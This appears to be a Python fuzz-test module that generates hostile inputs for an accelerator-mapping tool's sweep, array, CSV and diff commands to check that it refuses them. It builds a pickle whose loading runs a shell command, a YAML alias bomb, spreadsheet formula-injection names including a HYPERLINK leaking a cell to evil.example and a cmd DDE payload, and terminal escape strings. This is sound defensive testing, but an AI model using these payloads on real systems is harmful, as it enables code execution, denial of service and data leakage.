"""Hostile input, third round (issue 29): the surfaces added since the second round, one generator per family.

Families: ``sweep`` (sweep specs: ranges of 10^9 points, alias bombs, wrong types, NaN/inf quantities,
Dask addresses that are no scheduler), ``arrays`` (calibration and ``run`` inputs: pickles, object
arrays, NaN, wrong shapes and dtypes, files that are no numpy file, truncated ones), ``csv`` (layer
names that a spreadsheet would read as formulas) and ``diff`` (reports of another schema or damaged).
The result cache's cases need a compile around each damage and live in test_surfaces.py.  A case is a
``hostile.Hostile``: exit 2 with one error line naming ``needle``, unless it lists other codes.
"""

from __future__ import annotations

import json
import os
import pickle
import random
import zipfile
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

from hostile import EXAMPLES, OK, Hostile

LENET = str(EXAMPLES / "lenet5.onnx")
REFUSED_OR_OK = frozenset({0, 2})
# Nine lists of nine aliases, nine deep: 9^9 (387 million) nodes once expanded, 100 bytes as text.
ALIAS_BOMB = "[&a [x, x, x, x, x, x, x, x, x], " + ", ".join(
    f"&{c} [{', '.join(['*' + p] * 9)}]" for p, c in zip("abcdefgh", "bcdefghi")) + "]"
PWNED = Path("/tmp/eyeriss_fuzz_pickle_ran")


class Exploit:
    """A pickle that runs a shell command when loaded: a loader that unpickles it leaves PWNED behind."""

    def __reduce__(self):
        return (os.system, (f"touch {PWNED}",))


def _write(path: Path, data: str | bytes) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return str(path)


def sweep(tmp: Path) -> list[Hostile]:
    """Sweep specs (mapper/app/sweep/spec.py) whose every field is wrong in turn; refused before any work."""
    net = f"{{model: {LENET}, batch: 1}}"
    good = f"vary: {{array.rows: [6, 12]}}\nnetworks: [{net}]\n"

    def spec(**fields: str) -> str:
        top = {"vary": "{array.rows: [6, 12]}", "networks": f"[{net}]"} | fields
        return "".join(f"{key}: {value}\n" for key, value in top.items() if value is not None)

    texts: dict[str, tuple[str, str | None]] = {
        "billion_points_one_field": (spec(vary="{array.rows: {from: 1, to: 1000000000}}"), "1000000000 values"),
        "billion_points_product": (spec(vary="{array.rows: {from: 1, to: 1000}, array.cols: {from: 1, to: 1000}, "
                                        "glb.banks: {from: 1, to: 1000}}"), "1000000000 design points"),
        "range_to_10e40": (spec(vary="{glb.banks: {from: 1, to: 10000000000000000000000000000000000000000}}"),
                           "10000000000000000000000000000000000000000 values"),
        "alias_bomb_objective": (spec(objective=ALIAS_BOMB), "alias"),
        "alias_bomb_time_limit": (spec(time_limit=ALIAS_BOMB), "alias"),
        "alias_bomb_batch": (spec(networks=f"[{{model: {LENET}, batch: {ALIAS_BOMB}}}]"), "alias"),
        "alias_bomb_vary": (spec(vary=f"{{array.rows: {ALIAS_BOMB}}}"), "alias"),
        "alias_bomb_constraint": (spec(constraints=f"{{max_area_mm2: {ALIAS_BOMB}}}"), "alias"),
        "alias_bomb_unknown_key": (spec(colour=ALIAS_BOMB), "alias"),
        "time_limit_nan": (spec(time_limit=".nan"), "time_limit"),
        "time_limit_inf": (spec(time_limit=".inf"), "time_limit"),
        "time_limit_text": (spec(time_limit="'60'"), "time_limit"),
        "time_limit_list": (spec(time_limit="[60]"), "time_limit"),
        "area_nan": (spec(constraints="{max_area_mm2: .nan}"), "max_area_mm2"),
        "power_inf": (spec(constraints="{max_power_mw: .inf}"), "max_power_mw"),
        "power_negative_inf": (spec(constraints="{max_power_mw: -.inf}"), "max_power_mw"),
        "latency_per_network_nan": (spec(constraints="{max_latency_ms: {lenet5: .nan}}"), "max_latency_ms.lenet5"),
        "latency_list": (spec(constraints="{max_latency_ms: [1]}"), "max_latency_ms"),
        "constraints_list": (spec(constraints="[1]"), "constraints"),
        "vary_nan": (spec(vary="{array.rows: [.nan]}"), "array.rows[0]"),
        "vary_range_to_inf": (spec(vary="{array.rows: {from: 1, to: .inf}}"), "array.rows.to"),
        "vary_range_step_nan": (spec(vary="{array.rows: {from: 1, to: 9, step: .nan}}"), "array.rows.step"),
        "vary_float": (spec(vary="{array.rows: [6.0]}"), "array.rows[0]"),
        "vary_bool": (spec(vary="{array.rows: [true]}"), "array.rows[0]"),
        "vary_text": (spec(vary="{array.rows: '12'}"), "array.rows"),
        "vary_null": (spec(vary="{array.rows: null}"), "array.rows"),
        "vary_nested_list": (spec(vary="{array.rows: [[6]]}"), "array.rows[0]"),
        "vary_list_of_pairs": (spec(vary="[[array.rows, 6]]"), "vary"),
        "vary_int_key": (spec(vary="{5: [6]}"), "vary.5"),
        "vary_word_bits": (spec(vary="{array.word_bits: [8]}"), "word_bits"),
        "base_number": (spec(base="5"), "base"),
        "base_list": (spec(base="[]"), "base"),
        "networks_text": (spec(networks=LENET), "networks"),
        "networks_number_item": (spec(networks="[5]"), "networks[0]"),
        "network_model_number": (spec(networks="[{model: 5}]"), "networks[0].model"),
        "network_model_folder": (spec(networks=f"[{{model: {EXAMPLES}}}]"), "networks[0].model"),
        "network_batch_text": (spec(networks=f"[{{model: {LENET}, batch: '4'}}]"), "networks[0].batch"),
        "network_batch_nan": (spec(networks=f"[{{model: {LENET}, batch: .nan}}]"), "networks[0].batch"),
        "network_batch_float": (spec(networks=f"[{{model: {LENET}, batch: 1.0}}]"), "networks[0].batch"),
        "objective_list": (spec(objective="[energy]"), "objective"),
        "objective_mapping": (spec(objective="{energy: 1}"), "objective"),
        "mapping_space_mapping": (spec(mapping_space="{}"), "mapping_space"),
        "top_level_number_key": (spec() + "5: 1\n", "5"),
        "empty": ("", "mapping"),
        "binary": ("\x00\xff", "YAML"),
        "duplicate_key": (good + "vary: {array.rows: [8]}\n", "duplicate"),
        "markup_and_escape_field": (spec(vary='{"[bold]x\\e[2J": [6]}'), "[bold]x\\x1b[2J"),  # YAML \e: ESC
    }
    out = []
    for name, (text, needle) in texts.items():
        path = _write(tmp / f"sweep_{name}.yaml", text)
        out.append(Hostile("sweep", name, ("sweep", path, "-o", "{out}", "--no-cache"), needle=needle))
    # A value no chip can have is no typo of the spec: that point is an infeasible row, with the reason (docs/sweep.md).
    for name, value in (("vary_rows_negative", "-6"), ("vary_rows_zero", "0"), ("vary_rows_10e30", "1" + "0" * 30)):
        path = _write(tmp / f"sweep_{name}.yaml", spec(vary=f"{{array.rows: [{value}]}}"))
        out.append(Hostile("sweep", name, ("sweep", path, "-o", "{out}", "--no-cache"), OK))
    path = _write(tmp / "sweep_good.yaml", good)
    for name, address in (("dask_scheme_unknown", "foo://x"), ("dask_no_port", "tcp://"),
                          ("dask_port_out_of_range", "tcp://127.0.0.1:99999"),
                          ("dask_escape_sequence", "\x1b[31mred"), ("dask_empty", "")):
        out.append(Hostile("sweep", name, ("sweep", path, "-o", "{out}", "--no-cache", "--executor", "dask",
                                           "--address", address), needle="Dask"))
    return out


def _npz(path: Path, members: dict[str, bytes]) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return str(path)


def array_files(tmp: Path, input_name: str, shape: tuple[int, ...]) -> dict[str, tuple[str, str | None]]:
    """Sample files a user or an attacker could give as --calibration or --inputs: name -> (path, needle)."""
    tmp.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(29)
    good = rng.standard_normal(shape).astype(np.float32)
    out: dict[str, tuple[str, str | None]] = {}

    def save(name: str, array: np.ndarray, needle: str | None, suffix: str = ".npy") -> None:
        path = tmp / f"arrays_{name}{suffix}"
        if suffix == ".npz":
            np.savez(path, **{input_name: array})
        else:
            np.save(path, array, allow_pickle=True)
        out[name] = (str(path), needle)

    save("nan", np.where(good > 0, np.nan, good), "NaN")
    save("inf", np.full_like(good, -np.inf), "NaN or Inf")
    save("float64_beyond_float32", np.full(shape, 1e300), "NaN or Inf")
    save("object_array", np.array([None, 1], dtype=object), "pickle")
    save("object_array_npz", np.array([None, 1], dtype=object), "pickle", ".npz")
    save("strings", np.array([["a"]]), "dtype")
    save("complex", good.astype(np.complex64), "dtype")
    save("scalar", np.float32(1.0), None)
    save("one_channel_too_many", rng.standard_normal((shape[0], shape[1] + 1, *shape[2:])).astype(np.float32), None)
    save("rank_two", np.zeros(shape[-2:], np.float32), None)
    save("no_samples", np.zeros((0, *shape[1:]), np.float32), None)
    save("structured", np.zeros(shape[0], dtype=[("a", np.float32), ("b", np.int8)]), "dtype")
    exploit = pickle.dumps(Exploit())
    out["pickle_that_runs_code"] = (_write(tmp / "arrays_pickle.npy", exploit), "not a .npy")
    out["pickle_with_pkl_name"] = (_write(tmp / "arrays_pickle.pkl", exploit), "not a .npy")
    out["pickle_inside_npz"] = (_npz(tmp / "arrays_pickle.npz", {f"{input_name}.npy": exploit}), input_name)
    out["text_file"] = (_write(tmp / "arrays_text.npy", "1, 2, 3\n4, 5, 6\n"), "not a .npy")
    out["empty_file"] = (_write(tmp / "arrays_empty.npy", b""), "empty")
    out["onnx_model"] = (_write(tmp / "arrays_model.npy", Path(LENET).read_bytes()), "not a .npy")
    np.save(tmp / "arrays_good.npy", good)
    np.savez(tmp / "arrays_good.npz", **{input_name: good})
    npy, npz = (tmp / "arrays_good.npy").read_bytes(), (tmp / "arrays_good.npz").read_bytes()
    out["truncated_npy_header"] = (_write(tmp / "arrays_truncated_header.npy", npy[:40]), None)
    out["truncated_npy_data"] = (_write(tmp / "arrays_truncated_data.npy", npy[: len(npy) // 2]), None)
    out["truncated_npz"] = (_write(tmp / "arrays_truncated.npz", npz[: len(npz) // 2]), "truncated zip")
    out["npz_header_only"] = (_write(tmp / "arrays_header_only.npz", npz[:30]), "truncated zip")
    bad_member = bytearray(npz)
    bad_member[len(npz) // 3] ^= 0xFF  # a flipped byte inside the member: a CRC error on reading
    out["npz_member_corrupt"] = (_write(tmp / "arrays_member_corrupt.npz", bytes(bad_member)), None)
    out["npz_member_not_npy"] = (_npz(tmp / "arrays_member_text.npz", {f"{input_name}.npy": b"hello"}), input_name)
    out["npz_escape_in_member_name"] = (_npz(tmp / "arrays_escape.npz", {"\x1b[2Jx.npy": npy}), None)
    # A member declaring 2^40 floats in a few kilobytes: refused by its declared size, never allocated.
    header = npy[: npy.index(b"\n") + 1].replace(repr(shape).encode(), repr((1 << 40,) + shape[1:]).encode())
    out["npz_declares_4TB"] = (_npz(tmp / "arrays_4tb.npz", {f"{input_name}.npy": header}), None)
    return out


def arrays(tmp: Path, folder: Path, input_name: str, shape: tuple[int, ...]) -> list[Hostile]:
    """Each file as --calibration of a compile of LeNet-5 and as --inputs of ``run`` on its compile ``folder``."""
    out = []
    for name, (path, needle) in array_files(tmp, input_name, shape).items():
        out.append(Hostile("arrays", f"calibration_{name}",
                           ("compile", LENET, "-o", "{out}", "--no-cache", "--calibration", path), needle=needle))
        run_needle = "pickle" if name == "object_array_npz" else needle
        out.append(Hostile("arrays", f"run_{name}", ("run", str(folder), "--inputs", path, "--output", "{out}/y.npy"),
                           needle=run_needle))
    return out


def formula_model(tmp: Path) -> tuple[str, list[str]]:
    """A chain of 3x3 convolutions (4 -> 4 channels, same padding) named as spreadsheet formulas would be."""
    names = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1", "\n=1+1", "=", " =1", "\x1b]8;;http://evil\x07=1"]
    w = numpy_helper.from_array(np.ones((4, 4, 3, 3), np.float32), "w")
    nodes = [helper.make_node("Conv", [f"t{i}", "w"], [f"t{i + 1}"], name=name, pads=[1, 1, 1, 1])
             for i, name in enumerate(names)]
    graph = helper.make_graph(nodes, "formulas", [helper.make_tensor_value_info("t0", TensorProto.FLOAT, [1, 4, 8, 8])],
                              [helper.make_tensor_value_info(f"t{len(names)}", TensorProto.FLOAT, None)], [w])
    path = tmp / "formulas.onnx"
    path.write_bytes(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString())
    return str(path), names


def _leaves(node, path=()):
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _leaves(value, path + (key,))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from _leaves(value, path + (index,))
    else:
        yield path


def diff(tmp: Path, report: Path) -> list[Hostile]:
    """``diff`` of a real report with one of another schema, or with keys missing or of the wrong type."""
    good = json.loads(report.read_text())
    out = []

    def add(name: str, mutate, needle: str | None = None, codes=frozenset({2}), both: bool = True) -> None:
        data = json.loads(json.dumps(good))
        mutate(data)
        path = _write(tmp / f"diff_{name}.json", json.dumps(data))
        out.append(Hostile("diff", f"{name}_as_b", ("diff", str(report), path), codes, needle))
        if both:
            out.append(Hostile("diff", f"{name}_as_a", ("diff", path, str(report), "--json"), codes, needle))

    add("schema_older", lambda d: d.__setitem__("schema", "eyeriss-report/0"), "eyeriss-report/0")
    add("schema_leading_zero", lambda d: d.__setitem__("schema", "eyeriss-report/01"), "eyeriss-report/01")
    add("schema_newer", lambda d: d.__setitem__("schema", "eyeriss-report/2"), "newer")
    add("schema_far_newer", lambda d: d.__setitem__("schema", "eyeriss-report/" + "9" * 500), "newer")
    add("schema_number", lambda d: d.__setitem__("schema", 1), "schema")
    add("schema_sweep_points", lambda d: d.__setitem__("schema", "eyeriss-points/1"), "eyeriss-points/1")
    add("schema_missing", lambda d: d.pop("schema"), "schema")
    for key in ("model", "batch", "objective", "hardware", "layers", "totals", "host_ops"):
        add(f"missing_{key}", lambda d, k=key: d.pop(k), key)
        add(f"wrongtype_{key}", lambda d, k=key: d.__setitem__(k, 7 if isinstance(d[k], str) else "x"), key)
    for key in ("name", "solver", "mapping", "energy", "latency"):
        add(f"layer_missing_{key}", lambda d, k=key: d["layers"][0].pop(k), key if key != "name" else "name")
    for path, value in ((("layers", 0, "solver", "status"), 7), (("layers", 0, "energy", "by_level"), "x"),
                        (("layers", 0, "energy", "by_level", "pj"), []), (("layers", 0, "mapping"), [1, 2]),
                        (("layers", 0, "latency", "total_ms"), "fast"), (("layers", 0, "name"), ["conv1"]),
                        (("model",), {}), (("hardware",), {}), (("layers", 0, "mapping", "e"), "wide")):
        def mutate(d, path=path, value=value):
            node = d
            for key in path[:-1]:
                node = node[key]
            node[path[-1]] = value
        add("deep_" + "_".join(map(str, path)), mutate, codes=REFUSED_OR_OK)
    add("diff_sweep_file", lambda d: d.clear() or d.update({"schema": "eyeriss-points/1", "rows": []}),
        "eyeriss-points/1", both=False)
    rng = random.Random(29)
    paths = sorted(_leaves(good), key=str)
    for i in range(40):  # any value anywhere, on either side: a diff, or one error line; never a crash
        target = paths[rng.randrange(len(paths))]
        replacement = rng.choice([None, -1, 0, "x", [], {}, 1e308, True, "\x1b[2J"])

        def mutate(d, target=target, replacement=replacement):
            node = d
            for key in target[:-1]:
                node = node[key]
            node[target[-1]] = replacement
        add(f"random_value_{i}", mutate, codes=REFUSED_OR_OK, both=i % 2 == 0)
    return out
